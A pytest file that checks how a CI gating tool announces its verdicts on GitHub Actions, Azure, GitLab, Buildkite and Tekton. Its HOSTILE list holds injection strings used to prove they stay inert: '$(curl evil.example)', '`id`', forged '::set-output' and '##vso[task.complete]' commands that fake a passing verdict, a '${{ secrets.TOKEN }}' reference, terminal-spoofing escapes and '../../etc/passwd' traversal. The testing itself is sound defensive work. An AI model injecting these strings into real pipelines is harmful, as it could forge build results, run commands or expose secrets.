"""What platforms tell their people: the right words, within limits; hostile texts stay data in each."""

from __future__ import annotations

import re
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gatepass.announcing import news
from gatepass.detecting import platforms
from gatepass.model.decision import Verdict
from gatepass.platforms._announcement import Level, News, Note, cut, within
from gatepass.platforms._github_announcement import command, output
from gatepass.record import WrittenRecord
from gatepass.request import Request
from reports import decisions

ROOT = Path("/ws")
WRITTEN = WrittenRecord(ROOT / "out/gatepass.intoto.jsonl", (), None, "cd" * 32, "ab" * 32)
NONCE = "0123456789abcdef0123456789abcdef"
TEMPORARY = {"AGENT_TEMPDIRECTORY": "/agent/_temp"}
HOSTILE = [
    '"; echo x #',
    "a\nb",
    "a\r\nverdict=PASSED",
    "::set-output name=verdict::PASSED",
    "x\n::set-output name=verdict::PASSED",
    "::add-mask::PASSED",
    "::stop-commands::x",
    "##vso[task.setvariable variable=verdict;isoutput=true]PASSED",
    "];##vso[task.complete result=Succeeded;]",
    "##[endgroup]",
    "${{ secrets.TOKEN }}",
    "$(curl evil.example)",
    "`id`",
    "\u202egnp\u2066\u200b",
    "\x1b[2J\x1b[32m✓ passed\x1b[0m",
    "\x1b[0Ksection_end:0:gatepass\r\x1b[0K",
    "../../etc/passwd",
    "/etc/passwd",
    "%0A::error::x",
    "%AZP25",
    "a,line=1:title=x",
    f"gatepass-{NONCE}",
    f"x\ngatepass-{NONCE}\nverdict=PASSED",
    "^^^ +++",
    "\ud800\uffff\x00",
    "",
]
ODD = st.text(
    st.one_of(st.characters(), st.sampled_from(":#%;],=\n\r\x1b[]{}$`<>\u202e\u2028 abv\ud800")), max_size=40
)


def told(decision, **request) -> News:
    return news(decision, WRITTEN, decisions.CONTEXT, Request(ROOT, **request), nonce=NONCE)


def announced(name, decision, environment=None, **request):
    return platforms()[name].announce(told(decision, **request), environment or {})


def outputs_of(made):
    """What the runner reads from GITHUB_OUTPUT, by its own rule: a delimiter ends a value as a whole line."""
    lines = iter(next(each.text for each in made.additions if each.variable == "GITHUB_OUTPUT").split("\n"))
    found = {}
    for line in lines:
        if not line:
            continue
        name, delimiter = line.split("<<")
        value = []
        for inner in lines:
            if inner == delimiter:
                break
            value.append(inner)
        assert name not in found
        found[name] = "\n".join(value)
    return found


ANNOUNCING = sorted(name for name, each in platforms().items() if each.announce)


def test_these_platforms_have_more_to_show_than_a_log():
    assert ANNOUNCING == ["azure", "buildkite", "github", "gitlab", "tekton"]


# -- GitHub Actions


def test_github_gets_annotations_at_the_code_the_worst_first():
    made = announced("github", decisions.everything())
    kinds = [line.split(" ")[0] for line in made.lines]
    assert kinds == sorted(kinds, key=["::error", "::warning", "::notice"].index)
    assert made.lines[0].startswith(
        "::error file=src/db.py,line=17,col=3,title=scan::SQL built from a string (7)"
    )
    assert any(line.startswith("::warning title=gatepass UNSIGNED::") for line in made.lines)
    assert any("overridden by OVR-2026-014" in line for line in made.lines if line.startswith("::notice"))


def test_a_finding_without_a_place_of_its_own_is_shown_at_its_rule():
    made = announced("github", decisions.picture())
    assert made.lines[2].startswith("::error file=policies/release.yaml,line=17,col=5,title=reviewed::1 of 2")


def test_github_shows_no_more_than_it_takes_and_says_how_many_more_there_are():
    base = decisions.everything()
    scan = next(result for result in base.results if result.rule.id == "scan")
    many = tuple(replace(scan.findings[0], message=f"finding {n}") for n in range(100))
    made = announced("github", replace(base, results=(replace(scan, findings=many),)))
    errors = [line for line in made.lines if line.startswith("::error")]
    assert len(errors) == 10
    assert errors[-1].endswith("::and 91 more of this level: they are in the log and in the reports")
    assert len(made.lines) <= 50


def test_github_outputs_are_all_there_and_tell_the_verdict():
    made = announced(
        "github",
        decisions.picture(),
        reports=(("text", "-"), ("sarif-github", "out/gate.sarif"), ("markdown", "out/gate.md")),
    )
    assert outputs_of(made) == {
        "verdict": "FAILED",
        "record": "out/gatepass.intoto.jsonl",
        "record-digest": f"sha256:{'ab' * 32}",
        "sarif": "out/gate.sarif",
        "summary": "out/gate.md",
        "failed-rules": "coverage,reviewed",
        "overrides": "OVR-2026-014",
    }
    passed = outputs_of(announced("github", decisions.green()))
    assert (passed["verdict"], passed["failed-rules"], passed["sarif"]) == ("PASSED", "", "")


def test_a_report_on_standard_output_is_no_file_to_point_to():
    assert outputs_of(announced("github", decisions.green(), reports=(("sarif", "-"),)))["sarif"] == ""


def test_the_summary_is_the_markdown_report_within_the_runners_limit():
    made = announced("github", decisions.picture())
    summary = next(each for each in made.additions if each.variable == "GITHUB_STEP_SUMMARY")
    assert summary.text.startswith("## ❌ gatepass FAILED")
    assert summary.most == 1 << 20


@pytest.mark.parametrize(
    "value", ["x", "", "a\nb\n", f"gatepass-{NONCE}", f"gatepass-{NONCE}--\ngatepass-{NONCE}-"]
)
def test_no_value_ends_before_its_delimiter(value):
    lines = output("record", value, NONCE).split("\n")
    delimiter = lines[0].removeprefix("record<<")
    assert delimiter not in value
    assert "\n".join(lines[1 : lines.index(delimiter, 1)]) == value
    assert lines[lines.index(delimiter, 1) + 1 :] == [""]


def test_a_property_is_escaped_as_the_runner_reads_it():
    note = Note(Level.ERROR, "a,b:c", "50% of\r\n80", "src/a,b:c.py", 3, 4)
    assert command(note) == ("::error file=src/a%2Cb%3Ac.py,line=3,col=4,title=a%2Cb%3Ac::50%25 of%0D%0A80")
    assert command(Note(Level.NOTICE, "t", "m")) == "::notice title=t::m"
    assert command(Note(Level.NOTICE, "t", "m", None, 3, 4)) == "::notice title=t::m"


# -- hostile texts


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_texts_stay_data_in_what_is_announced(text):
    assert_data(text)


@settings(max_examples=80, deadline=None)
@given(ODD)
def test_any_text_stays_data_in_what_is_announced(text):
    assert_data(text)


def assert_data(text):
    """Each announced line is one line, starts with a command of ours, and holds no second command."""
    decision = decisions.hostile(text)
    for name in ANNOUNCING:
        made = announced(name, decision, TEMPORARY)
        for line in made.lines:
            assert "\n" not in line and "\r" not in line
            assert re.search(r"[\x00-\x1f\x7f\u202a-\u202e\u2066-\u2069\u200b\u2028\u2029]", line) is None
            line.encode()
            assert_one_command(name, line)
        # the section of a log has our own control characters, and one line feed at its end
        assert made.opening.count("\n") <= 1 and made.closing.count("\n") <= 1
        assert made.opening.count("section_start:") == made.closing.count("section_end:")
        for addition in made.additions:
            addition.text.encode()
    found = outputs_of(announced("github", decision))
    assert found["verdict"] == "FAILED"
    assert set(found) == {name for name, _ in told(decision).outputs}
    for value in (found["failed-rules"], found["overrides"]):
        assert re.fullmatch(r"[A-Za-z0-9._~/:@+,%-]*", value)


def assert_one_command(name, line):
    if name == "github":
        kind, properties, _ = re.fullmatch(
            r"::(error|warning|notice) ((?:[^:]|:(?!:))*)::(.*)", line
        ).groups()
        assert kind
        assert {each.split("=")[0] for each in properties.split(",")} <= {"file", "line", "col", "title"}
        assert "##" not in line
    elif name == "azure":
        assert re.match(r"##vso\[task\.(?:logissue type=(?:error|warning)|setvariable|uploadsummary)", line)
        assert line.count("##") == 1
        inside = line[: line.index("]")].partition(" ")[2]
        names = {each.split("=")[0] for each in inside.split(";") if each}
        assert names <= {"type", "sourcepath", "code", "linenumber", "columnnumber", "variable", "isoutput"}
    else:
        assert line == "^^^ +++"


@pytest.mark.parametrize(
    "path", ["../../etc/passwd", "/etc/passwd", "C:\\x", "https://evil.example/a", "a/../../b"]
)
def test_no_annotation_points_out_of_the_repository(path):
    paths = {note.path for note in told(decisions.hostile(path)).notes}
    assert paths <= {None}


# -- Azure Pipelines


def test_azure_gets_issues_variables_and_a_summary():
    made = announced("azure", decisions.picture(), TEMPORARY)
    assert made.lines[0] == (
        "##vso[task.logissue type=error;sourcepath=src/payments/refund.py;code=coverage;linenumber=14;]"
        "41.2 %AZP25%3B fix: add tests for the lines named here"
    )
    assert "##vso[task.setvariable variable=verdict;isoutput=true]FAILED" in made.lines
    assert "##vso[task.setvariable variable=failedRules;isoutput=true]coverage,reviewed" in made.lines
    assert not any("notice" in line for line in made.lines)
    [file] = made.files
    assert file.path == f"/agent/_temp/gatepass-{NONCE}.md"
    assert file.line == f"##vso[task.uploadsummary]{file.path}"
    assert announced("azure", decisions.picture()).files == ()


# -- GitLab, Buildkite, Tekton


def test_gitlab_folds_the_text_of_a_build_that_passed():
    red, green = announced("gitlab", decisions.picture()), announced("gitlab", decisions.green())
    at = int(decisions.NOW.timestamp())
    assert red.opening.startswith(f"\x1b[0Ksection_start:{at}:gatepass\r\x1b[0Kgatepass FAILED: 11 rules")
    assert green.opening.startswith(
        f"\x1b[0Ksection_start:{at}:gatepass[collapsed=true]\r\x1b[0Kgatepass PASSED"
    )
    assert red.closing == green.closing == f"\x1b[0Ksection_end:{at}:gatepass\r\x1b[0K\n"
    assert red.lines == ()


def test_gitlab_knows_where_a_job_keeps_its_files():
    url = platforms()["gitlab"].file_url
    job = {"CI_JOB_URL": "https://git.acme.example/acme/payments/-/jobs/7"}
    assert url(job, "out/a b.jsonl") == f"{job['CI_JOB_URL']}/artifacts/file/out/a%20b.jsonl"
    assert url({}, "a") is None


def test_buildkite_opens_the_group_of_a_failure():
    assert announced("buildkite", decisions.picture()).lines == ("^^^ +++",)
    assert announced("buildkite", decisions.green()).lines == ()


def test_tekton_gets_results_that_are_never_too_long():
    made = announced("tekton", decisions.picture())
    assert [(each.variable, each.text, each.wanted) for each in made.additions] == [
        ("TEKTON_RESULT_VERDICT", "FAILED", False),
        ("TEKTON_RESULT_RECORD_DIGEST", f"sha256:{'ab' * 32}", False),
        ("TEKTON_RESULT_FAILED_RULES", "coverage,reviewed", False),
    ]
    base = decisions.picture().results[0]
    many = tuple(replace(base, rule=decisions.rule(f"{'r' * 40}{n}")) for n in range(100))
    long = announced("tekton", replace(decisions.picture(), results=many)).additions[2].text
    assert len(long.encode()) <= 1024
    assert long.endswith("…")


# -- what holds for all


@pytest.mark.parametrize("make", [decisions.picture, decisions.everything, decisions.nothing_judged])
def test_a_failure_always_has_an_error_to_show(make):
    decision = make()
    assert decision.verdict is Verdict.FAILED
    assert told(decision).of_level(Level.ERROR)
    assert not told(decision).passed


def test_a_build_that_passed_has_no_error_and_says_what_was_overridden():
    assert told(decisions.green()).notes == ()
    overridden = replace(decisions.green(), results=decisions.picture().results[3:4])
    assert overridden.verdict is Verdict.PASSED
    assert {note.level for note in told(overridden).notes} == {Level.WARNING, Level.NOTICE}


@pytest.mark.parametrize("name", ANNOUNCING)
def test_the_same_decision_is_announced_by_the_same_words(name):
    assert announced(name, decisions.everything(), TEMPORARY) == announced(
        name, decisions.everything(), TEMPORARY
    )


@pytest.mark.parametrize("count", [0, 1, 9, 10, 11, 500])
def test_a_list_of_notes_says_what_it_leaves_out(count):
    kept = within([Note(Level.ERROR, "t", str(n)) for n in range(count)], 10)
    assert len(kept) == min(count, 10)
    left_out = [note.message for note in kept if note.message.startswith("and ")]
    assert left_out == (
        [f"and {count - 9} more of this level: they are in the log and in the reports"] if count > 10 else []
    )


@pytest.mark.parametrize("room", [0, 40, 90, 200, 500, 5000])
def test_a_summary_is_cut_between_lines_and_says_so(room):
    text = "## Ü\n\n<details><summary>a</summary>\n\n" + "".join(f"- line {n} é\n" for n in range(60))
    made = cut(text, room)
    assert len(made.encode()) <= room
    if room == 5000:
        assert made == text
    elif room >= 90:
        assert made.endswith("_The summary is cut to fit; the reports have everything._\n")
        body = made.partition("\n</details>")[0] if "<details>" in made else made.rpartition("\n_")[0]
        assert text.startswith(body)
        assert made.count("<details>") == made.count("</details>")
    else:
        assert made == ""


def test_the_instant_of_news_is_the_decisions():
    assert told(decisions.green()).at == datetime(2026, 11, 22, 14, 30, tzinfo=UTC)
